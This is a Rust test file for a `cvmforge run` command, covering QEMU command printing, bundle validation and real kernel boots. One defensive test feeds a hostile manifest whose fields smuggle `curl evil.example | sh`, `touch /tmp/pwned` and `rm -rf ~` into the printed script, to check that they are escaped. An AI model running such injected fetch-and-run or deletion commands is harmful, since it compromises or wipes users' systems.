//! `cvmforge run`: `--print-command` on hand-made output directories and bundles (exact output), missing files,
//! damaged bundles and bad arguments; QEMU failures; and real boots of a Debian kernel under QEMU (TCG).
//!
//! The real boots need a kernel and are skipped, with a printed reason, unless `CVMFORGE_TEST_KERNEL_DIR` names a
//! directory with `boot/vmlinuz-*` (an extracted Debian `linux-image` package). The power-off test also needs
//! `CVMFORGE_TEST_GUEST_INIT`, the path of a built `guest-init` (`target/x86_64-unknown-linux-gnu/release/guest-init`).
//! They force `--accel tcg`: some hosts (nested virtualization) have a `/dev/kvm` that opens but cannot run guests.

// Test helpers outside #[test] functions: a panic here is a test failure, which is what we want.
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use cvmforge::format::cpio::CpioWriter;
use cvmforge::format::tar::TarWriter;

use crate::util::{manifest_with, snp_entry, tdx_entry};

const CMDLINE: &str = "console=ttyS0 quiet";
const MARKER: &str = "CVMFORGE-RUN-TEST-MARKER";

fn cvmforge(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cvmforge")).arg("run").args(args).output().unwrap()
}

fn stdout(out: &Output) -> String {
    String::from_utf8(out.stdout.clone()).unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn write(dir: &Path, name: &str, content: &[u8]) {
    fs_err::write(dir.join(name), content).unwrap();
}

/// An output directory with a fake kernel and initrd: enough for everything but a real boot.
fn fake_output_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "kernel", b"not a kernel");
    write(dir.path(), "initrd.img", b"not an initrd");
    write(dir.path(), "cmdline", format!("{CMDLINE}\n").as_bytes());
    dir
}

fn manifest_with_shapes() -> String {
    manifest_with(
        vec![
            snp_entry("epyc-v4-4", (Some(&["-accel", "kvm", "-cpu", "EPYC-v4", "-append", CMDLINE]), None, None)),
            snp_entry("aws", (None, None, Some("shape is launched by `ec2`"))),
            snp_entry("snp-shape2-vcpus1", (Some(&["-smp", "1"]), Some(&["add the `-cpu` model"]), None)),
        ],
        vec![tdx_entry("td-8g", (Some(&["-object", "tdx-guest,id=tdx0", "-m", "8G"]), None, None))],
    )
}

fn smoke_line(kernel: &str, initrd: &str, tail: &str) -> String {
    format!(
        "qemu-system-x86_64 -machine q35,accel=tcg -cpu max -m 512M -smp 1 -nodefaults -no-user-config -display none \
         -monitor none -serial stdio -no-reboot -kernel {kernel} -initrd {initrd} -append 'console=ttyS0 quiet' \
         -netdev user,id=n0{tail} -device virtio-net-pci,netdev=n0\n"
    )
}

const PRINT_ARGS: [&str; 7] = ["--print-command", "--accel", "tcg", "--memory", "512M", "--vcpus", "1"];

fn print_command(image: &Path, extra: &[&str]) -> Output {
    let mut args = vec![image.to_str().unwrap()];
    args.extend(PRINT_ARGS);
    args.extend(extra);
    cvmforge(&args)
}

#[test]
fn print_command_lists_the_boot_and_every_measured_shape() {
    let dir = fake_output_dir();
    write(dir.path(), "manifest.json", manifest_with_shapes().as_bytes());
    let d = dir.path().to_str().unwrap();
    let out = print_command(dir.path(), &["--forward", "18080:8080", "--forward", "2222:22"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let expected = format!(
        "# Plain boot (no confidential computing, tcg), as `cvmforge run` starts it:\n{}\
         # Confidential launches of the measured shapes (run in the output directory):\n\
         # SEV-SNP shape snp[0] (epyc-v4-4):\n\
         qemu-system-x86_64 -accel kvm -cpu EPYC-v4 -append 'console=ttyS0 quiet'\n\
         # SEV-SNP shape snp[1] (aws):\n\
         #   note: shape is launched by `ec2`\n\
         #   no QEMU command recorded for this shape\n\
         # SEV-SNP shape snp[2] (snp-shape2-vcpus1):\n\
         #   note: add the `-cpu` model\n\
         qemu-system-x86_64 -smp 1\n\
         # TDX shape tdx[0] (td-8g):\n\
         qemu-system-x86_64 -object tdx-guest,id=tdx0 -m 8G\n",
        smoke_line(
            &format!("{d}/kernel"),
            &format!("{d}/initrd.img"),
            ",hostfwd=tcp:127.0.0.1:18080-:8080,hostfwd=tcp:127.0.0.1:2222-:22"
        )
    );
    assert_eq!(stdout(&out), expected);
    assert_eq!(stderr(&out), "");
}

/// Issue 11, item 4: names, notes and arguments from a hostile manifest cannot add lines to the printed script.
#[test]
fn issue11_print_command_escapes_what_the_manifest_says() {
    let dir = fake_output_dir();
    let manifest = manifest_with(
        vec![snp_entry(
            "x)\ncurl evil.example | sh\n# (",
            (Some(&["-append", "a\ntouch /tmp/pwned"]), Some(&["ok\rrm -rf ~\u{1b}[2K"]), None),
        )],
        vec![tdx_entry("tdx-shape0", (None, None, None))],
    );
    write(dir.path(), "manifest.json", manifest.as_bytes());
    let out = print_command(dir.path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    let shapes: Vec<&str> = text.lines().skip_while(|l| !l.starts_with("# Confidential")).collect();
    assert_eq!(
        shapes,
        [
            "# Confidential launches of the measured shapes (run in the output directory):",
            "# SEV-SNP shape snp[0] (x)\\ncurl evil.example | sh\\n# ():",
            "#   note: ok\\rrm -rf ~\\u{1b}[2K",
            "#   not shown: an argument holds a control character; see `--json`",
            "# TDX shape tdx[0] (tdx-shape0):",
            "#   no QEMU command recorded for this shape",
        ]
    );
}

/// Issue 11, item 5: a member of an output directory that is a symlink (to a host file) is refused, not read or booted.
#[test]
fn issue11_rejects_symlinked_members() {
    for member in ["cmdline", "kernel", "initrd.img", "manifest.json"] {
        let dir = fake_output_dir();
        let secret = dir.path().join("secret");
        write(dir.path(), "secret", b"root:$6$hash");
        write(dir.path(), "manifest.json", br#"{"schema": "https://cvmforge.dev/manifest/v1"}"#);
        fs_err::remove_file(dir.path().join(member)).unwrap();
        std::os::unix::fs::symlink(&secret, dir.path().join(member)).unwrap();
        let out = print_command(dir.path(), &[]);
        assert_eq!(out.status.code(), Some(1), "{member}: {}", stdout(&out));
        assert!(stderr(&out).contains("is a symbolic link"), "{member}: {}", stderr(&out));
        assert!(!stdout(&out).contains("root:"), "{member}");
    }
}

/// Issue 10: `run` reads the typed manifest: a field the manifest never has (an old `qemu_command`) is refused,
/// naming it, rather than read as a command.
#[test]
fn issue10_print_command_refuses_a_manifest_with_unknown_fields() {
    let dir = fake_output_dir();
    let manifest = manifest_with(vec![], vec![tdx_entry("tdx-shape0", (None, None, None))]).replacen(
        "\"name\": \"tdx-shape0\"",
        "\"name\": \"tdx-shape0\", \"qemu_command\": \"true\"",
        1,
    );
    write(dir.path(), "manifest.json", manifest.as_bytes());
    let out = print_command(dir.path(), &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let err = stderr(&out);
    assert!(err.contains("`manifest.json` of the output directory"), "{err}");
    assert!(err.contains("field `measurements.tdx[0].qemu_command`: unknown field `qemu_command`"), "{err}");
}

#[test]
fn print_command_says_when_the_manifest_has_no_shapes() {
    let dir = fake_output_dir();
    write(dir.path(), "manifest.json", manifest_with(vec![], vec![]).as_bytes());
    let d = dir.path().to_str().unwrap();
    let out = print_command(dir.path(), &["--scratch-disk", &format!("{d}/cmdline")]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let smoke = smoke_line(&format!("{d}/kernel"), &format!("{d}/initrd.img"), "");
    let smoke = smoke.replace('\n', &format!(" -drive file={d}/cmdline,if=virtio,format=raw\n"));
    assert_eq!(
        stdout(&out),
        format!(
            "# Plain boot (no confidential computing, tcg), as `cvmforge run` starts it:\n{smoke}\
             # no measured shapes in the manifest\n"
        )
    );
}

#[test]
fn print_command_without_manifest() {
    let dir = fake_output_dir();
    let out = print_command(dir.path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out)
        .ends_with("-netdev user,id=n0 -device virtio-net-pci,netdev=n0\n# No `manifest.json`: no measured shapes.\n"));
}

#[test]
fn print_command_json() {
    let dir = fake_output_dir();
    write(dir.path(), "manifest.json", manifest_with_shapes().as_bytes());
    let d = dir.path().to_str().unwrap();
    let out = print_command(dir.path(), &["--json"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["schema_version"], 1);
    assert_eq!(doc["type"], "run-command");
    assert_eq!(doc["accel"], "tcg");
    assert_eq!(doc["manifest"], true);
    assert_eq!(doc["paths_are_bundle_members"], false);
    let command: Vec<&str> = doc["command"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
    assert_eq!(command[0], "qemu-system-x86_64");
    let kernel = format!("{d}/kernel");
    assert_eq!(command[command.iter().position(|a| *a == "-kernel").unwrap() + 1], kernel);
    assert_eq!(command[command.iter().position(|a| *a == "-append").unwrap() + 1], CMDLINE);
    let shapes = doc["shapes"].as_array().unwrap();
    assert_eq!(shapes.len(), 4);
    assert_eq!(shapes[0]["technology"], "snp");
    assert_eq!(shapes[0]["command_line"], "qemu-system-x86_64 -accel kvm -cpu EPYC-v4 -append 'console=ttyS0 quiet'");
    assert_eq!(shapes[1]["command_line"], serde_json::Value::Null);
    assert_eq!(shapes[3]["technology"], "tdx");
    assert_eq!(shapes[3]["name"], "td-8g");
}

fn bundle_with(dir: &Path, members: &[(&str, &[u8])]) -> PathBuf {
    let path = dir.join("demo-1.0.cvm.tar");
    let mut tar = TarWriter::new(fs_err::File::create(&path).unwrap(), 1_700_000_000);
    for (name, content) in members {
        tar.add_file(name, 0o644, content.len() as u64, &mut &content[..]).unwrap();
    }
    tar.finish().unwrap();
    path
}

fn full_bundle(dir: &Path) -> PathBuf {
    let manifest = manifest_with_shapes();
    let cmdline = format!("{CMDLINE}\n");
    bundle_with(
        dir,
        &[
            ("cmdline", cmdline.as_bytes()),
            ("firmware-snp.fd", b"firmware"),
            ("initrd.img", b"not an initrd"),
            ("kernel", b"not a kernel"),
            ("manifest.json", manifest.as_bytes()),
        ],
    )
}

#[test]
fn print_command_on_a_bundle_names_its_members() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = full_bundle(dir.path());
    let out = print_command(&bundle, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("# Plain boot (no confidential computing, tcg), as `cvmforge run` starts it:"));
    assert_eq!(lines.next(), Some("# (file names are the bundle's members: extract it first, e.g. with `tar -xf`)"));
    assert_eq!(lines.next(), Some(smoke_line("kernel", "initrd.img", "").trim_end()));
    assert_eq!(lines.next(), Some("# Confidential launches of the measured shapes (run in the output directory):"));
    assert!(text.contains("qemu-system-x86_64 -object tdx-guest,id=tdx0 -m 8G\n"));
}

#[test]
fn print_command_on_a_gnu_tar_bundle() {
    // The same files archived by GNU tar, an independent ustar writer, with `./` names.
    let src = fake_output_dir();
    let dir = tempfile::tempdir().unwrap();
    let bundle = dir.path().join("b.cvm.tar");
    let status = Command::new("tar")
        .args(["--format=ustar", "-cf", bundle.to_str().unwrap(), "-C", src.path().to_str().unwrap(), "."])
        .status();
    let Ok(status) = status else {
        crate::util::skip_test!("GNU tar is not installed");
        return;
    };
    assert!(status.success());
    let out = print_command(&bundle, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out).contains(&smoke_line("kernel", "initrd.img", "")), "{}", stdout(&out));
}

#[test]
fn rejects_output_dir_without_kernel() {
    let dir = fake_output_dir();
    fs_err::remove_file(dir.path().join("kernel")).unwrap();
    let out = print_command(dir.path(), &[]);
    assert_eq!(out.status.code(), Some(1));
    let kernel = dir.path().join("kernel");
    assert_eq!(
        stderr(&out),
        format!(
            "error: `{}` does not exist (or is not a file)\nhint: `cvmforge run` boots what `cvmforge build` writes: \
             `kernel`, `initrd.img` and `cmdline` in an output directory or its `.cvm.tar` bundle\n",
            kernel.display()
        )
    );
    assert_eq!(stdout(&out), "");
}

#[test]
fn rejects_output_dir_without_cmdline() {
    let dir = fake_output_dir();
    fs_err::remove_file(dir.path().join("cmdline")).unwrap();
    let out = print_command(dir.path(), &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains(&format!("`{}` does not exist", dir.path().join("cmdline").display())));
}

#[test]
fn rejects_bundle_without_kernel() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_with(dir.path(), &[("cmdline", b"x"), ("initrd.img", b"i")]);
    let out = print_command(&bundle, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).starts_with(&format!("error: bundle `{}` has no member `kernel`\n", bundle.display())),
        "{}",
        stderr(&out)
    );
}

#[test]
fn rejects_bundle_with_bad_header_checksum() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = full_bundle(dir.path());
    let mut bytes = fs_err::read(&bundle).unwrap();
    // The second member's header: `cmdline` takes one header and one data block.
    bytes[1024 + 10] ^= 1;
    fs_err::write(&bundle, &bytes).unwrap();
    let out = print_command(&bundle, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    // The bounded tar reader of `verify` and `inspect` names the entry and its offset.
    assert!(err.starts_with(&format!("error: cannot read bundle `{}`\n", bundle.display())), "{err}");
    assert!(err.contains("tar entry 1 at byte offset 1024: header checksum"), "{err}");
}

#[test]
fn rejects_bundle_with_a_member_twice() {
    // Which `kernel` would QEMU boot? Neither: the bundle is refused.
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_with(
        dir.path(),
        &[("cmdline", b"x"), ("initrd.img", b"i"), ("kernel", b"first"), ("kernel", b"second")],
    );
    let out = print_command(&bundle, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("member `kernel` occurs twice (entries 2 and 3)"), "{err}");
}

#[test]
fn rejects_truncated_bundle() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = full_bundle(dir.path());
    let bytes = fs_err::read(&bundle).unwrap();
    // Cut inside the last member's (manifest.json's) data.
    let cut = bytes.len() - 1024 - 100;
    fs_err::write(&bundle, &bytes[..cut]).unwrap();
    let out = print_command(&bundle, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("tar entry 4 is truncated: the stream ends inside its content"), "{err}");
}

#[test]
fn rejects_non_tar_bundle() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("x.cvm.tar");
    fs_err::write(&path, vec![b'A'; 2048]).unwrap();
    let out = print_command(&path, &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("tar entry 0: field `chksum` at byte offset 148 is not a valid number"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn rejects_bad_arguments() {
    let dir = fake_output_dir();
    let d = dir.path().to_str().unwrap();
    for (args, message) in [
        (vec!["--memory", "1X"], "invalid size `1X`"),
        (vec!["--memory", "1024"], "1024 bytes of guest RAM is too little"),
        (vec!["--timeout", "0"], "duration `0` is zero"),
        (vec!["--timeout", "2d"], "invalid duration `2d`"),
        (vec!["--forward", "8080"], "invalid port forward `8080`"),
        (vec!["--vcpus", "0"], "0 is not in 1..=1024"),
        (vec!["--accel", "hvf"], "invalid value 'hvf'"),
        (vec!["--monitor", "a,b.sock"], "contains a comma"),
        (vec!["--monitor", ""], "the monitor socket path is empty"),
    ] {
        let mut all = vec![d, "--print-command"];
        all.extend(args.iter());
        let out = cvmforge(&all);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(message), "{args:?}: {}", stderr(&out));
    }
}

#[test]
fn print_command_with_monitor_socket() {
    let dir = fake_output_dir();
    let d = dir.path().to_str().unwrap();
    let out = print_command(dir.path(), &["--monitor", "build/m.sock"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let expected = smoke_line(&format!("{d}/kernel"), &format!("{d}/initrd.img"), "")
        .replace("-monitor none", "-monitor unix:build/m.sock,server,nowait");
    assert_eq!(stdout(&out).lines().nth(1), expected.lines().next());
}

#[test]
fn rejects_duplicate_host_port_and_missing_scratch_disk() {
    let dir = fake_output_dir();
    let out = print_command(dir.path(), &["--forward", "8080:80", "--forward", "8080:81"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(stderr(&out), "error: host port 8080 is forwarded twice\n");
    let out = print_command(dir.path(), &["--scratch-disk", "/nonexistent/scratch.img"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).starts_with("error: scratch disk `/nonexistent/scratch.img` does not exist"));
}

#[test]
fn rejects_missing_image() {
    let out = cvmforge(&["/nonexistent/out", "--print-command"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("/nonexistent/out"), "{}", stderr(&out));
}

fn qemu_installed() -> bool {
    let found = Command::new("qemu-system-x86_64").arg("--version").output().is_ok_and(|o| o.status.success());
    if !found {
        crate::util::skip_test!("qemu-system-x86_64 is not installed");
    }
    found
}

#[test]
fn qemu_failure_is_a_failure() {
    if !qemu_installed() {
        return;
    }
    // QEMU refuses a "kernel" that is no bzImage, ELF or multiboot image and exits 1 before the guest starts.
    let dir = fake_output_dir();
    let out = cvmforge(&[dir.path().to_str().unwrap(), "--accel", "tcg", "--memory", "128M", "--timeout", "60s"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("error: QEMU failed (exit status: 1): "), "{err}");
    // QEMU's own message is shown as it printed it, and repeated in the error.
    let last = err.lines().find_map(|l| l.strip_prefix("error: QEMU failed (exit status: 1): ")).unwrap();
    assert!(err.lines().any(|l| l == last), "{err}");
    assert_eq!(stdout(&out), "");
}

// ---------------------------------------------------------------------------------------------------------------
// Real boots

/// The kernel of `CVMFORGE_TEST_KERNEL_DIR`, or `None` with the reason printed.
fn test_kernel() -> Option<PathBuf> {
    let Some(dir) = std::env::var_os("CVMFORGE_TEST_KERNEL_DIR") else {
        crate::util::skip_test!(
            "set CVMFORGE_TEST_KERNEL_DIR to an extracted Debian linux-image package (boot/vmlinuz-*)"
        );
        return None;
    };
    if !qemu_installed() {
        return None;
    }
    let boot = Path::new(&dir).join("boot");
    let mut kernels: Vec<PathBuf> = fs_err::read_dir(&boot)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().unwrap().to_str().unwrap().starts_with("vmlinuz-"))
        .collect();
    kernels.sort();
    assert!(!kernels.is_empty(), "no vmlinuz-* in {}", boot.display());
    kernels.pop()
}

/// An output directory with the real kernel, an initrd of `files` (plus `/dev/console`) and `cmdline`.
fn boot_dir(kernel: &Path, files: &[(&str, u32, Vec<u8>)], cmdline: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs_err::copy(kernel, dir.path().join("kernel")).unwrap();
    let mut cpio = CpioWriter::new(Vec::new(), 0);
    for d in ["dev", "etc", "etc/cvmforge", "proc", "run", "sys", "tmp"] {
        cpio.add_directory(d, 0o755).unwrap();
    }
    cpio.add_char_device("dev/console", 0o600, 5, 1).unwrap();
    for (name, mode, content) in files {
        cpio.add_file(name, *mode, content.len() as u64, &mut &content[..]).unwrap();
    }
    write(dir.path(), "initrd.img", &cpio.finish().unwrap());
    write(dir.path(), "cmdline", format!("{cmdline}\n").as_bytes());
    dir
}

/// A static program that prints [`MARKER`], built with the `rustc` that runs these tests.
fn marker_program(dir: &Path) -> Vec<u8> {
    static_program(dir, &format!("fn main() {{ println!(\"{MARKER}\"); }}\n"))
}

/// A static program from Rust source, built with the `rustc` that runs these tests.
fn static_program(dir: &Path, code: &str) -> Vec<u8> {
    let source = dir.join("marker.rs");
    fs_err::write(&source, code).unwrap();
    let binary = dir.join("marker");
    let rustc = std::env::var("RUSTC").unwrap_or_else(|_| "rustc".into());
    let status = Command::new(rustc)
        .args(["--edition", "2021", "-C", "opt-level=1", "-C", "target-feature=+crt-static", "-o"])
        .arg(&binary)
        .arg(&source)
        .status()
        .unwrap();
    assert!(status.success(), "building the static marker program failed");
    fs_err::read(&binary).unwrap()
}

fn boot(dir: &Path, timeout: &str) -> (Output, Duration) {
    let start = Instant::now();
    let out =
        cvmforge(&[dir.to_str().unwrap(), "--accel", "tcg", "--memory", "512M", "--vcpus", "1", "--timeout", timeout]);
    (out, start.elapsed())
}

#[test]
fn boots_guest_init_and_powers_off() {
    let Some(kernel) = test_kernel() else { return };
    let Some(guest_init) = std::env::var_os("CVMFORGE_TEST_GUEST_INIT") else {
        crate::util::skip_test!("set CVMFORGE_TEST_GUEST_INIT to a built guest-init binary");
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let marker = marker_program(work.path());
    // guest-init runs the configured command as an unprivileged user and powers off when it exits.
    let config = r#"{"schema":"cvmforge-init/v1","modules":[],"command":["/marker"],"env":{},"uid":65534,"gid":65534}"#;
    let files = [
        ("init", 0o755, fs_err::read(guest_init).unwrap()),
        ("marker", 0o755, marker),
        ("etc/cvmforge/init.json", 0o644, config.as_bytes().to_vec()),
    ];
    let dir = boot_dir(&kernel, &files, "console=ttyS0");
    let (out, _) = boot(dir.path(), "300s");
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    // The payload's output reaches the console only through guest-init's relay, behind its prefix.
    assert!(err.lines().any(|l| l.trim_end() == format!("payload: {MARKER}")), "{err}");
    assert!(err.contains("Linux version"), "{err}");
    assert_eq!(stdout(&out), "guest powered off (tcg)\n");
}

#[test]
fn kernel_panic_is_a_failure() {
    let Some(kernel) = test_kernel() else { return };
    // No /init and no root device: the kernel panics ("VFS: Unable to mount root fs").
    let dir = boot_dir(&kernel, &[], "console=ttyS0 panic=-1");
    let (out, _) = boot(dir.path(), "300s");
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("Linux version"), "{err}");
    let error_line = err.lines().find(|l| l.starts_with("error: ")).unwrap();
    assert!(
        error_line.starts_with("error: guest kernel panic: Kernel panic - not syncing: VFS: Unable to mount root fs"),
        "{error_line}"
    );
    assert_eq!(stdout(&out), "");
}

#[test]
fn init_that_exits_is_a_kernel_panic() {
    let Some(kernel) = test_kernel() else { return };
    let work = tempfile::tempdir().unwrap();
    // The marker program as PID 1 prints and exits: "Attempted to kill init!". panic=0 (the default) would hang
    // the guest, so this also checks that the panic is detected on the console rather than from QEMU's exit.
    let dir = boot_dir(&kernel, &[("init", 0o755, marker_program(work.path()))], "console=ttyS0 panic=0");
    let (out, elapsed) = boot(dir.path(), "300s");
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    // Here the marker program is PID 1 itself (no guest-init, no relay): its line is on the console as it printed it.
    assert!(err.lines().any(|l| l.trim_end() == MARKER), "{err}");
    assert!(err.contains("error: guest kernel panic: Kernel panic - not syncing: Attempted to kill init!"), "{err}");
    assert!(elapsed < Duration::from_secs(290), "took {elapsed:?}: the panic was not detected");
}

#[test]
fn timeout_stops_qemu() {
    let Some(kernel) = test_kernel() else { return };
    let dir = boot_dir(&kernel, &[], "console=ttyS0 panic=-1");
    // Under TCG a kernel takes several seconds to reach the panic; the deadline comes first.
    let (out, elapsed) = boot(dir.path(), "1s");
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("error: timed out after 1s; QEMU was stopped\n"), "{err}");
    assert!(elapsed < Duration::from_secs(20), "took {elapsed:?}");
}

#[test]
fn ctrl_c_stops_qemu_and_fails() {
    let Some(kernel) = test_kernel() else { return };
    let dir = boot_dir(&kernel, &[], "console=ttyS0 panic=0");
    let child = Command::new(env!("CARGO_BIN_EXE_cvmforge"))
        .args(["run", dir.path().to_str().unwrap(), "--accel", "tcg", "--memory", "512M", "--timeout", "300s"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_secs(2));
    let status = Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap();
    assert!(status.success());
    let start = Instant::now();
    let out = child.wait_with_output().unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("error: interrupted; QEMU was stopped"), "{err}");
    assert!(start.elapsed() < Duration::from_secs(10));
}

/// Starts `cvmforge run` on `dir` with stderr (the guest console) read line by line into a channel.
fn spawn_run(dir: &Path, extra: &[&str]) -> (std::process::Child, std::sync::mpsc::Receiver<String>) {
    use std::io::BufRead;
    let mut child = Command::new(env!("CARGO_BIN_EXE_cvmforge"))
        .args(["run", dir.to_str().unwrap(), "--accel", "tcg", "--memory", "512M", "--vcpus", "1"])
        .args(extra)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (lines, received) = std::sync::mpsc::channel();
    let err = child.stderr.take().unwrap();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(err).lines() {
            let Ok(line) = line else { break };
            if lines.send(line).is_err() {
                break;
            }
        }
    });
    (child, received)
}

/// Collects console lines until one satisfies `stop` (true) or `limit` passes (false).
fn read_until(
    received: &std::sync::mpsc::Receiver<String>,
    console: &mut Vec<String>,
    limit: Duration,
    stop: impl Fn(&str) -> bool,
) -> bool {
    let deadline = Instant::now() + limit;
    while let Some(left) = deadline.checked_duration_since(Instant::now()) {
        match received.recv_timeout(left) {
            Ok(line) => {
                let done = stop(&line);
                console.push(line);
                if done {
                    return true;
                }
            }
            Err(_) => return false,
        }
    }
    false
}

#[test]
fn monitor_ctrl_alt_delete_stops_the_payload_and_powers_off() {
    let Some(kernel) = test_kernel() else { return };
    let Some(guest_init) = std::env::var_os("CVMFORGE_TEST_GUEST_INIT") else {
        crate::util::skip_test!("set CVMFORGE_TEST_GUEST_INIT to a built guest-init binary");
        return;
    };
    let work = tempfile::tempdir().unwrap();
    // A payload that would run for ten minutes: only the Ctrl-Alt-Del that guest-init turns into SIGINT ends it.
    let sleeper = static_program(
        work.path(),
        &format!("fn main() {{ println!(\"{MARKER}\"); std::thread::sleep(std::time::Duration::from_secs(600)); }}\n"),
    );
    let config =
        r#"{"schema":"cvmforge-init/v1","modules":[],"command":["/sleeper"],"env":{},"uid":65534,"gid":65534}"#;
    let files = [
        ("init", 0o755, fs_err::read(guest_init).unwrap()),
        ("sleeper", 0o755, sleeper),
        ("etc/cvmforge/init.json", 0o644, config.as_bytes().to_vec()),
    ];
    let dir = boot_dir(&kernel, &files, "console=ttyS0 panic=-1");
    let socket = work.path().join("monitor.sock");
    let (mut child, received) = spawn_run(dir.path(), &["--timeout", "300s", "--monitor", socket.to_str().unwrap()]);
    let mut console = Vec::new();
    let relayed = format!("payload: {MARKER}");
    let started = read_until(&received, &mut console, Duration::from_secs(280), |l| l.trim_end() == relayed);
    if !started {
        let _ = child.kill();
        panic!("the payload did not start:\n{}", console.join("\n"));
    }
    let mut monitor = std::os::unix::net::UnixStream::connect(&socket).unwrap();
    std::io::Write::write_all(&mut monitor, b"sendkey ctrl-alt-delete\n").unwrap();
    let stopped = read_until(&received, &mut console, Duration::from_secs(60), |l| l.contains("powering off"));
    let status = child.wait().unwrap();
    let console = console.join("\n");
    assert!(stopped, "no power-off line after Ctrl-Alt-Del:\n{console}");
    assert_eq!(status.code(), Some(0), "{console}");
    assert!(console.contains("cvmforge-init: forwarding SIGINT to payload pid"), "{console}");
    assert!(console.contains("cvmforge-init: payload exited with signal SIGINT; powering off"), "{console}");
}
